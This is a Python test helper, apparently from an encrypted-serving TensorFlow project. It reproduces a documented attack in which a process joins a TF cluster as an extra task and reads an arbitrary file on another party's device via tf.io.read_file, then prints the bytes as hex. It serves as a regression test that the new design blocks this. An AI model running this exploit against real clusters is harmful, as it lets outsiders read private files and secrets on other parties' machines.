"""An attacker's TF script (encrypted env): join a TF cluster and read a file or variable on one of its tasks.

    python attacker.py --addresses A0,A1,... --target-task K --file PATH [--timeout S]

This is what the issue's attack did against the old design: a process with the cluster's addresses joins
as an extra task (TF's servers accept anyone) and places ``tf.io.read_file`` on a party's device, so the
file is read *in that party's process*. Prints one JSON line: {"ok": true, "data_hex": ...} or
{"ok": false, "error": ...}. Used by tests/encrypted_serving/test_gateway_service.py.
"""
import argparse
import json
import os
import sys

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--addresses", required=True)
    ap.add_argument("--job", default="tfe")
    ap.add_argument("--target-task", type=int, required=True)
    ap.add_argument("--file", required=True)
    ap.add_argument("--timeout", type=float, default=20.0)
    ap.add_argument("--as-task", type=int, default=None, help="join as this task of the job (else as a new job)")
    args = ap.parse_args()
    import faulthandler
    import socket
    # TF's connect can block while holding the GIL: a C-level timer ends the attempt regardless.
    faulthandler.dump_traceback_later(args.timeout, exit=True, file=open(os.devnull, "w"))
    import tensorflow as tf
    from tensorflow.python.eager import context
    context.context().operation_timeout_in_ms = int(args.timeout * 1000)
    addrs = args.addresses.split(",")
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    mine = "127.0.0.1:%d" % s.getsockname()[1]
    s.close()
    box = {}

    def attack():
        try:
            if args.as_task is None:
                spec = tf.train.ClusterSpec({args.job: addrs, "attacker": [mine]})
                tf.config.experimental_connect_to_cluster(spec, job_name="attacker", task_index=0)
            else:
                spec = tf.train.ClusterSpec({args.job: addrs})
                tf.config.experimental_connect_to_cluster(spec, job_name=args.job, task_index=args.as_task)
            with tf.device("/job:%s/replica:0/task:%d/device:CPU:0" % (args.job, args.target_task)):
                data = tf.io.read_file(args.file)
            box["data"] = data.numpy()
        except Exception as e:  # noqa: BLE001
            box["error"] = "%s: %s" % (type(e).__name__, str(e).splitlines()[0][:300] if str(e) else "")

    attack()   # a hang (TF retrying while holding the GIL) ends at the faulthandler timer: no verdict = failed
    if "data" in box:
        out = {"ok": True, "data_hex": box["data"].hex()}
    else:
        out = {"ok": False, "error": box.get("error", "no answer within %.0fs" % args.timeout)}
    sys.stdout.write(json.dumps(out) + "\n")
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main()
